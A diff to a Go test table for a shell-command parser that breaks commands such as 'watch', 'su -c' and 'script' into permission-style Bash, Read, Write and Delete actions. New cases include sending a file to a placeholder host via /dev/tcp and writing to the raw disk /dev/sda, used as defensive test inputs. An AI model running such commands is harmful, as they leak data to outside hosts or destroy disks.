@@ -135,6 +135,12 @@ var examples = [...]struct{ line, want string }{
 	{"script -c 'rm x' log.txt", "Write(log.txt)  Bash(rm x)<script  Delete(x)<script"},
 	{"script", "Write(typescript)  Bash(script)"},
 	{"script -q /dev/null rm x", "Bash(rm x)<script  Delete(x)<script"}, // on macOS
+	{"watch -xn1 sh -c 'rm x'", "Bash(rm x)<watch,sh -c  Delete(x)<watch,sh -c"},
+	{"watch sh -c 'rm x'", "Bash(rm)<watch,sh -c"},
+	{"su root -c 'rm x'", "Bash(rm x)<su  Delete(x)<su"},
+	{"su root -- -c 'rm x'", "Bash(su root -- -c 'rm x')?"},
+	{"cat a > /dev/tcp/h.example/80", "Bash(cat a)  Read(a)  Bash('>' /dev/tcp/h.example/80)"},
+	{"cat a > /dev/sda", "Bash(cat a)  Read(a)  Bash('>' /dev/sda)  Write(/dev/sda)"},
 	{"script log.txt -c 'rm x'", "Write(log.txt)  Bash(rm x)<script  Delete(x)<script"},
 	{"watchexec -e go rm x", "Bash(watchexec -e go rm x)?"},
 	{"asdf exec rm x", "Bash(asdf exec rm x)?"},
